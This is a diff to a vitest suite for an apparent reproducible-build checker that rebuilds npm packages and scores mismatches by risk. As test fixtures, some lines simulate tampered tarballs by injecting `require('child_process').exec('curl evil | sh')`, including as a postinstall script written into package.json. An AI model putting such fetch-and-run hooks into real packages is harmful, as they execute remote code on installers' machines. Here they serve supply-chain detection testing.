@@ -1,3 +1,4 @@
+import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { execa } from 'execa';
@@ -33,10 +34,10 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
   });
 
   it('calls a tarball packed by another npm and node equivalent, naming the stabilizers that were needed', async () => {
-    // the host packs with its own node/npm (other zlib, other npm), the builder image with Debian's:
-    // the files are the same, the gzip stream is not
+    // packed with Debian's Node 18 and npm 9 (another zlib), while the farm builds with the pinned
+    // Node the registry names: the files are the same, the gzip stream is not
     const pkg = await makeGitPackage(join(farm.dir, 'src/greet-host'), { 'package.json': packageJson('greet-host', '2.0.0'), 'index.js': INDEX }, 'v2.0.0');
-    await publishFromGit(farm.registry, pkg, { how: 'host' });
+    await publishFromGit(farm.registry, pkg, { how: 'debian' });
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/greet-host@2.0.0' });
     expect(view.verdict?.verdict).toBe('equivalent');
     expect(view.verdict?.stabilizers.length).toBeGreaterThan(0);
@@ -54,6 +55,8 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
     expect(digests.size).toBe(1);
     expect(view.verdict?.rebuiltSha256).toBe([...digests][0]);
     for (const r of view.rebuilds) expect(r.matchesPublished).toBe('no');
+    // changed JavaScript is high risk, whatever the change
+    expect(view.verdict?.risk).toMatchObject({ level: 'high', text: 'high risk: 1 JavaScript file changed (index.js)', changed: { count: 1, paths: ['package/index.js'] } });
     // the auditor's explanation: exactly the injected file and line
     const diff = await farm.json<{ added: unknown[]; removed: unknown[]; changed: { path: string; kind: string; unified?: string }[]; metadataOnly: unknown[] }>('GET', `/v1/releases/${view.id}/diff`);
     expect(diff.added).toEqual([]);
@@ -66,6 +69,54 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
     expect(cli.exitCode, cli.stderr).toBe(0);
     expect(cli.stdout).toContain('package/index.js');
     expect(cli.stdout).toContain("require('child_process').exec('curl evil | sh');");
+  });
+
+  it('summarizes the risk of a mismatch whose published tarball adds a postinstall script: high, signed in the VSA, shown by quorum status', async () => {
+    const pkg = await makeGitPackage(join(farm.dir, 'src/hooked'), { 'package.json': packageJson('hooked', '2.0.1'), 'index.js': INDEX }, 'v2.0.1');
+    // the tarball-only change: written after the tagged commit, so only the published tarball has it
+    await writeFile(join(pkg.dir, 'package.json'), packageJson('hooked', '2.0.1', { scripts: { postinstall: 'node -e "require(\'child_process\').exec(\'curl evil | sh\')"' } }));
+    await publishFromGit(farm.registry, pkg, { how: 'image' });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/hooked@2.0.1' });
+    expect(view.verdict?.verdict).toBe('mismatch');
+    const risk = view.verdict?.risk;
+    expect(risk).toMatchObject({
+      level: 'high',
+      text: 'high risk: install script postinstall added in package.json',
+      changed: { count: 1, paths: ['package/package.json'] },
+      onlyPublished: { count: 0, paths: [] },
+      onlyRebuilt: { count: 0, paths: [] },
+    });
+    expect(risk?.flags).toEqual([{ code: 'install-script', level: 'high', message: 'install script postinstall added in package.json' }]);
+    // the same summary is signed in the VSA, and the alarm carries it
+    const att = await farm.json<{ vsa: { dsseEnvelope: { payload: string } }; answer: { alarms: { risk?: unknown }[] } }>('GET', `/v1/attestations/${encodeURIComponent('pkg:npm/hooked@2.0.1')}`);
+    const statement = JSON.parse(Buffer.from(att.vsa.dsseEnvelope.payload, 'base64').toString('utf8')) as { predicate: { quorum: { risk?: unknown } } };
+    expect(statement.predicate.quorum.risk).toEqual(risk);
+    expect(att.answer.alarms[0]?.risk).toEqual({ level: 'high', text: risk!.text });
+    const status = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/hooked@2.0.1', '--server', farm.url], { reject: false });
+    expect(status.exitCode, status.stderr).toBe(2);
+    expect(status.stdout).toMatch(/^risk: +HIGH — install script postinstall added in package\.json$/m);
+    const json = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/hooked@2.0.1', '--json', '--server', farm.url], { reject: false });
+    expect((JSON.parse(json.stdout) as { release: { verdict: { risk: unknown } } }).release.verdict.risk).toEqual(risk);
+  });
+
+  it('calls a mismatch low risk when the published tarball only has an extra CHANGELOG.md', async () => {
+    const pkg = await makeGitPackage(join(farm.dir, 'src/chatty'), { 'package.json': packageJson('chatty', '1.4.0'), 'index.js': INDEX }, 'v1.4.0');
+    await writeFile(join(pkg.dir, 'CHANGELOG.md'), '# 1.4.0\n\n- written after the release commit\n');
+    await publishFromGit(farm.registry, pkg, { how: 'image' });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/chatty@1.4.0' });
+    expect(view.verdict?.verdict).toBe('mismatch');
+    expect(view.verdict?.risk).toEqual({
+      level: 'low',
+      text: 'low risk: only documentation differs (CHANGELOG.md only in the published tarball)',
+      onlyPublished: { count: 1, paths: ['package/CHANGELOG.md'] },
+      onlyRebuilt: { count: 0, paths: [] },
+      changed: { count: 0, paths: [] },
+      modeChanged: { count: 0, paths: [] },
+      flags: [],
+    });
+    const status = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/chatty@1.4.0', '--server', farm.url], { reject: false });
+    expect(status.exitCode, status.stderr).toBe(2);
+    expect(status.stdout).toMatch(/^risk: +LOW — only documentation differs \(CHANGELOG\.md only in the published tarball\)$/m);
   });
 
   it('calls a build that writes the time and a random value into its output unreproducible', async () => {
@@ -108,7 +159,7 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
 
   it('calls a release with no matching tag failed with reason source-not-found', async () => {
     const pkg = await makeGitPackage(join(farm.dir, 'src/untagged'), { 'package.json': packageJson('untagged', '3.1.4'), 'index.js': INDEX }, 'release-3.1.4');
-    await publishFromGit(farm.registry, pkg, { how: 'host' });
+    await publishFromGit(farm.registry, pkg, { how: 'debian' });
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/untagged@3.1.4' });
     expect(view.verdict?.verdict).toBe('failed');
     // the coordinator pins the commit before any build: no tag, nothing to build
